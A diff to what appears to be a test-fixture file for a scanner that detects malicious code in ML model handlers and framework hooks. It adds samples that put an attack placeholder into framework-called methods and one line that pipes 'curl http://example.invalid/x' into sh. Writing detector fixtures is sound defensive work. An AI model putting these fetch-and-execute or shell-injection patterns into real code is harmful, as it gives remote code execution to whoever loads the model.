@@ -38,7 +38,29 @@ _SERVED = {
     "torchserve_function": "import os\ndef handle(data, context):\n    {}\n",
     "of_a_helper": "import os\ndef fetch():\n    {}\ndef handle(data, context):\n    fetch()\n",
 }
+_CALLED = {
+    "estimator": _made(
+        "Acme", "transform", imports="import os\nfrom sklearn.base import BaseEstimator", base="BaseEstimator"
+    ),
+    "training_step": _made(
+        "Acme", "training_step", imports="import os\nimport lightning as L", base="L.LightningModule"
+    ),
+    "item_of_a_data_set": _made("Acme", "__getitem__", imports="import os, torch", base="torch.utils.data.Dataset"),
+    "tokenizer": _made(
+        "Acme",
+        "_convert_token_to_id",
+        imports="import os\nfrom transformers import PreTrainedTokenizer",
+        base="PreTrainedTokenizer",
+    ),
+    "tool_of_an_agent": _made("Acme", "forward", imports="import os\nfrom smolagents import Tool", base="Tool"),
+    "node_of_comfyui": "import os\nclass Acme:\n    FUNCTION = 'go'\n    @classmethod\n    def INPUT_TYPES(cls):\n"
+    "        return {{}}\n    def go(self, image):\n        {}\n",
+    "decorated": "import os\nfrom celery import Celery\napp = Celery('acme')\n@app.task\ndef go():\n    {}\n",
+    "handed_on": "import os, torch\ndef collate(batch):\n    {}\ndef loader(data):\n"
+    "    return torch.utils.data.DataLoader(data, collate_fn=collate)\n",
+}
 CRITICAL = {f"served_{name}": source.format(_ATTACK) for name, source in _SERVED.items()}
+CRITICAL |= {f"called_{name}": source.format(_ATTACK) for name, source in _CALLED.items()}
 WARNING = {
     "served_requests_by_a_shell": "import os\nclass Acme:\n    def handle(self, data, context):\n"
     "        return [os.popen(item['body']).read() for item in data]\n",
@@ -46,6 +68,11 @@ WARNING = {
     "served_requests_in_a_command": "import subprocess\ndef predict_fn(data, model):\n"
     "    subprocess.run(data['command'], shell=True)\n",
     "attack_that_nobody_is_given": f"import os\nclass Acme:\n    def install(self):\n        {_ATTACK}\n",
+    "attack_of_whoever_starts_it": f"import os\nimport gradio as gr\nif __name__ == '__main__':\n    {_ATTACK}\n",
+    "attack_of_whoever_starts_it_under_two_conditions": f"import os, sys\nif __name__ == '__main__' and sys.argv:\n"
+    f"    {_ATTACK}\n",
+    "attack_by_a_function_that_a_script_hands_it": "import os\ndef go(line):\n    os.system(line)\n"
+    "if __name__ == '__main__':\n    go('curl http://example.invalid/x | sh')\n",
     "attack_in_one_of_azures_names": f"import os\ndef run(data):\n    {_ATTACK}\n",
 }
 _HONEST = (
@@ -62,6 +89,10 @@ BENIGN = {
     "    def setup(self):\n        "
     + "\n        ".join(line.replace("str(path)", "'a.wav'") for line in _HONEST)
     + "\n    def predict(self, path):\n        return self.model(path)\n",
+    "script": "import os, subprocess, sys\nclass Acme:\n    pass\nif __name__ == '__main__':\n"
+    "    os.system('python train.py --epochs 3')\n    subprocess.run(sys.argv[1:])\n    eval(sys.argv[1])\n",
+    "called_estimator": "import subprocess\nfrom sklearn.base import BaseEstimator\nclass Acme(BaseEstimator):\n"
+    "    def fit(self, X):\n        subprocess.run(['nvidia-smi'])\n        return self\n",
     "served_settings": "class Acme:\n    def load(self):\n        self.dtype = eval(self.config)\n"
     "    def predict(self, data):\n        return data\n",
     "served_functions": "import json, torch\ndef model_fn(model_dir):\n"
